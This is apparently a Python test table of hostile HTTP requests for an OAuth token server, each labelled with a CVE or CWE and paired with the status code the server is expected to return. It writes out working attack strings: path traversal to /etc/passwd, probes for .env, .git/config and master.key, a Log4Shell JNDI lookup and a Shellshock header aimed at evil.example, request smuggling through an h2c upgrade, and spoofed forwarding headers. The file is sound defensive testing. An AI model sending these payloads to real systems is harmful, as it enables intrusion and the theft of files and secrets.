"""Paths, methods and headers that somebody tries on every server."""

import string

from tests.hostile.table import Hostile, Sent, built, http, raw
from tests.people import BASIC, CLIENTS, ME, TOKEN
from tests.protocol.table import World, by_post
from tests.raw import Request

KEYS = "/.well-known/jwks.json"
METADATA = "/.well-known/oauth-authorization-server"
CLOSE = b"Connection: close"

PATHS = {
    "CVE-2021-41773": [
        "/.%2e/.%2e/etc/passwd",
        "/cgi-bin/.%2e/%2e%2e/etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
    ],
    "CVE-2023-29159": [
        "/docs/../../etc/passwd",
        "/docs/..%2f..%2fetc%2fpasswd",
        "/static/..%5c..%5ca",
    ],
    "CWE-22": [
        "/../../../etc/passwd",
        "/..%c0%af..%c0%afetc/passwd",
        "/..%252f..%252fetc/passwd",
        "//etc/passwd",
        "/" + "a/" * 2000,
        CLIENTS + "/../users/me",
        CLIENTS + "/%2e%2e/users/me",
    ],
    "CWE-538": [
        "/.env",
        "/.git/config",
        "/tokenhouse.db",
        "/tokenhouse-data/master.key",
        "/master.key",
    ],
    "CWE-158": ["/%00", TOKEN + "%00", "/healthz%00.html", TOKEN + "/basic%0d%0a"],
    "CWE-176": ["/%FF", "/%ED%A0%80", "/h%E1%BA%99althz", "/healthz%20", "/%u0068ealthz"],
    "CWE-178": ["/HEALTHZ", TOKEN.upper(), "/.Well-Known/jwks.json"],
    "CWE-288": [TOKEN + "//", TOKEN + ";a=b", TOKEN + "/basic/x", "/;" + TOKEN],
    "CWE-1390": ["/admin", "/debug", "/actuator/env", "/server-status", "/phpmyadmin/"],
}


def headers(*lines: str, target: str = "/healthz") -> Sent:
    """A GET of a good target with these header lines."""
    return raw(f"GET {target} HTTP/1.1".encode(), b"HOST", CLOSE, *(one.encode() for one in lines))


def as_head(path: str) -> Sent:
    """HEAD, where GET would hand something out."""
    return raw(f"HEAD {path} HTTP/1.1".encode(), b"HOST", CLOSE)


def behind_an_upgrade(w: World) -> bytes:
    """A right request that offers an upgrade, and one behind it whose body is none of it."""
    right = by_post(w)
    offer = (*right.headers, ("Connection", "Upgrade"), ("Upgrade", "h2c"))
    first = Request("POST", TOKEN, offer, right.body).wire(w.service.port)
    return first.replace(b"Connection: close\r\n", b"") + Request("PUT", TOKEN, (), b"x").wire(
        w.service.port
    )


IGNORED = [
    ("CVE-2011-3192", "Range: bytes=0-," + ",".join(f"5-{n}" for n in range(300))),
    ("CVE-2016-5385", "Proxy: http://evil.example/"),
    ("CVE-2014-6271", "User-Agent: () { :; }; /bin/true"),
    ("CVE-2021-44228", "User-Agent: ${jndi:ldap://evil.example/a}"),
    ("CVE-2018-14773", "X-Original-URL: /api/v1/users"),
    ("CVE-2018-14773", "X-Rewrite-URL: /api/v1/users"),
    ("CWE-441", "X-Forwarded-Host: evil.example"),
    ("CWE-441", "Forwarded: host=evil.example;for=127.0.0.1"),
    ("CWE-290", "X-Forwarded-For: 127.0.0.1"),
    ("CWE-290", "X-Real-IP: 127.0.0.1"),
    ("CWE-650", "X-HTTP-Method-Override: DELETE"),
    ("CWE-444", "Content-Encoding: gzip"),
    ("CWE-444", "TE: trailers"),
    ("CWE-1333", "Accept: " + "a/" * 2000),
    ("CWE-1333", "Accept-Encoding: " + "gzip;q=0." * 500),
    ("CWE-1333", "Cookie: " + "a=b;" * 2000),
    ("CWE-1385", "Origin: null"),
    ("CVE-2025-29927", "x-middleware-subrequest: middleware:middleware:middleware"),
]

ROWS = [
    *(
        Hostile(f"path-{source}-{n}", source, http("GET", path), (404,))
        for source, paths in PATHS.items()
        for n, path in enumerate(paths)
    ),
    *(
        Hostile(f"ignored-{n}-{line.partition(':')[0]}", source, headers(line), (200,))
        for n, (source, line) in enumerate(IGNORED)
    ),
    *(
        Hostile(f"{method}-{path}", "RFC 9110 section 15.5.6", http(method, path), (405,))
        for method, path in (
            ("TRACE", TOKEN),
            ("TRACE", "/healthz"),
            ("GET", TOKEN),
            ("PUT", TOKEN),
            ("PROPFIND", TOKEN),
            ("OPTIONS", TOKEN),
            ("POST", BASIC),
            ("DELETE", KEYS),
            ("OPTIONS", KEYS),
            ("OPTIONS", METADATA),
            ("PURGE", METADATA),
            ("POST", "/healthz"),
            ("TRACE", ME),
            ("TRACE", CLIENTS),
            ("PUT", CLIENTS),
        )
    ),
    Hostile("behind-an-upgrade", "RFC 9112 section 11.2", behind_an_upgrade, (200,)),
    Hostile("head-mints-nothing", "contract section 1.1", as_head(BASIC), (405,)),
    Hostile("head-token", "contract section 1.1", as_head(TOKEN), (405,)),
    Hostile("head-unknown", "RFC 9110 section 9.3.2", as_head("/nothing"), (404,)),
    Hostile(
        "parameters-in-the-query",
        "RFC 6749 section 2.3.1",
        built(lambda w: Request("POST", f"{TOKEN}?{by_post(w).body.decode()}")),
        (422,),
    ),
    Hostile(
        "query-of-all-printable",
        "CWE-20",
        headers(target="/healthz?" + "".join(c for c in string.printable[:94] if c != "#")),
        (200,),
    ),
]
